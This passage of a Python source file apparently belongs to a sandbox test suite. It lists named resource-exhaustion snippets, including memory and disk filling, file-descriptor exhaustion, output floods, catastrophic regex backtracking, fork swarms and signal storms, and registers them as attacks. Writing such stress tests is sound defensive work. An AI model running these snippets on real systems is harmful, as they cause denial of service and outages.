    "            except BlockingIOError: pass\nexcept OSError: pass\ntime.sleep(100)",
    "memory-memfd": "import os\nx = []\nwhile True:\n    f = os.memfd_create('x')\n    x.append(f)\n"
    "    os.write(f, b'x' * 10**7)",
    "disk-fill": "import itertools\nfor n in itertools.count():\n"
    "    with open(f'/tmp/f{n}', 'wb') as f:\n        f.write(b'x' * 10**7)",
    "disk-shared-memory": "import itertools\nfor n in itertools.count():\n"
    "    with open(f'/dev/shm/f{n}', 'wb') as f:\n        f.write(b'x' * 10**7)",
    "disk-many-files": "import itertools\nfor n in itertools.count(): open(f'/tmp/f{n}', 'w').close()",
    "descriptors": "import os\nx = []\nwhile True: x.append(open('/dev/null'))",
    "print-flood": "while True: print('x' * 10**6)",
    "print-flood-stderr": "import sys\nwhile True: sys.stderr.write('x' * 10**6)",
    "print-flood-in-call": "def answer(x):\n    for _ in range(10**4): print('y' * 10**4)\n    return 0",
    "print-flood-raw": "import os\nfor _ in range(10**4):\n    os.write(1, b'x' * 10**4)\n    os.write(2, b'x' * 10**4)",
    "display-flood": "from IPython.display import display\nfor _ in range(3000): display('z' * 10**4)",
    "image-flood": "from IPython.display import display, Image\n"
    "for _ in range(60): display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + b'0' * 10**6, format='png'))",
    "answer-flood": "import numpy as np\ndef answer(x): return np.zeros(10**8, np.int8)",
    "answer-endless-generator": "import itertools\ndef answer(x): return itertools.count()",
    "answer-slow-generator": "import time\ndef answer(x):\n    while True:\n        yield 1\n        time.sleep(0.5)",
    "slow-attributes": "import time\nclass S:\n    def __getattr__(self, n):\n        time.sleep(3)\n        return 0\n"
    "def answer(x): return S()",
    "deep-recursion": "import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)",
    "regular-expression": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "huge-power": "x = 9 ** 9 ** 9 ** 9",
    "zombies": "import os\nfor _ in range(500):\n    try:\n        if os.fork() == 0: os._exit(0)\n    except OSError: pass",
    "crash-again-and-again": "import os\ndef answer(x): os._exit(1)",
    "crowd-of-spinners": "import os\nfor _ in range(60):\n    try:\n        if os.fork() == 0: break\n"
    "    except OSError: break\nwhile True: pass",
    "record-locks": "import fcntl, time\nend = time.monotonic() + 2\nfor n in range(200):\n"
    "    f = open(f'/tmp/l{n}', 'w')\n    for i in range(500):\n        fcntl.lockf(f, fcntl.LOCK_EX, 1, 2 * i)",
    "signal-storm": "import os, signal, threading\ndef storm():\n    while True: os.kill(os.getpid(), signal.SIGUSR1)\n"
    "signal.signal(signal.SIGUSR1, lambda *a: None)\nthreading.Thread(target=storm, daemon=True).start()",
}
for _name, _source in RESOURCES.items():
    code(
        _name,
        "resource",
        _source,
        often=_name
        in {"endless-loop-in-call", "fork-bomb", "memory-list", "disk-fill", "print-flood"},
    )
assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
